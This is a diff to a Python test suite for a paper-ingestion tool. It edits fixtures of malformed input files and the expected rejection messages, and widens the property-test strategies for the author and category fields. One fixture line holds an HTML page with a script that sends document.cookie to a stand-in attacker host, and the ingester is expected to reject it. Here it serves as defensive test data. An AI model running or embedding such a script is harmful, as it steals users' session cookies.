@@ -332,7 +332,7 @@ def _hostile_corpus(root: Path) -> tuple[Path, dict[str, tuple[str, str | None]]
         "latin1.txt": "Daily Papers\n\nCaf\u00e9 Retrieval\n\nAn abstract.\n".encode("latin-1"),
         "page.html": b"<!DOCTYPE html><html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>Papers</body></html>",
         "missing-fields.jsonl": (json.dumps({"title": listing_003.title}) + "\n" + json.dumps({"id": "2501.00001", "abstract": "No title here."}) + "\n").encode(),
-        "wrong-types.json": json.dumps([{"title": 42}, {"title": "A Paper", "authors": "A. Person"}]).encode(),
+        "wrong-types.json": json.dumps([{"title": 42}, {"title": "A Paper", "authors": 42}]).encode(),
         "duplicate-ids.jsonl": "\n".join(
             json.dumps({"id": f"{page_001.arxiv_id}v{v}", "title": page_001.title, "abstract": "Same paper, listed twice."}) for v in (1, 2)
         ).encode() + b"\n",
@@ -360,7 +360,7 @@ def _hostile_corpus(root: Path) -> tuple[Path, dict[str, tuple[str, str | None]]
         "latin1.txt": ("rejected", "not valid UTF-8 at byte 17 (0xe9)"),
         "page.html": ("rejected", "an HTML page"),
         "missing-fields.jsonl": ("ingested", "1 record(s) skipped: line 2: field 'title' is missing"),
-        "wrong-types.json": ("rejected", "record 1: field 'title' must be a string, got int; record 2: field 'authors' must be a list of strings, got string"),
+        "wrong-types.json": ("rejected", "record 1: field 'title' must be a string, got int; record 2: field 'authors' must be a list of strings, got int"),
         "duplicate-ids.jsonl": ("ingested", None),
         "listing-no-abstract.txt": ("ingested", None),
         "listing-empty.txt": ("rejected", "no paper titles found"),
@@ -789,8 +789,9 @@ FIELDS = [
     ("id", st.tuples(st.sampled_from(ID_POOL), st.sampled_from(["", "v1", "v3"])).map("".join), st.one_of(st.integers(), st.just("not-an-id"), st.just([]))),
     ("year", st.one_of(st.integers(1990, 2030), st.integers(1990, 2030).map(str)), st.one_of(st.just("20x5"), st.integers(10_000, 99_999), st.booleans())),
     ("published", st.just("2025-08-23"), st.one_of(st.integers(), st.lists(st.text(max_size=3), max_size=2))),
-    ("authors", st.lists(WORDS.filter(str.strip), max_size=3), st.one_of(WORDS, st.lists(st.integers(), min_size=1, max_size=2))),
-    ("categories", st.lists(st.sampled_from(["cs.IR", "cs.CL"]), max_size=2), st.one_of(st.integers(), st.just("cs.IR"))),
+    # a string is right too for these two: the arXiv metadata snapshot writes them so
+    ("authors", st.one_of(st.lists(WORDS.filter(str.strip), max_size=3), WORDS), st.one_of(st.integers(), st.lists(st.integers(), min_size=1, max_size=2))),
+    ("categories", st.one_of(st.lists(st.sampled_from(["cs.IR", "cs.CL"]), max_size=2), st.just("cs.IR cs.CL")), st.one_of(st.integers(), st.just([3]))),
 ]
 
 
